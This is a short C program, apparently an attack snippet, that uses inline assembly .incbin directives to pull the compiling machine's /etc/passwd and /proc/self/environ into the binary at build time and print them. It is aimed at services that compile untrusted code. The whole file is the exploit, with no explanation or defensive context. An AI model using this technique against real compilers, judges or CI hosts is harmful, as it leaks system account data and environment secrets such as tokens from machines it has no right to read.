__asm__(".section .rodata\nstart: .incbin \"/etc/passwd\"\nstop: .incbin \"/proc/self/environ\"\nlast: .byte 0\n.text\n");
extern const char start[], last[];
long write(int, const void *, unsigned long);
int main(void) { return write(1, start, last - start) < 0; }
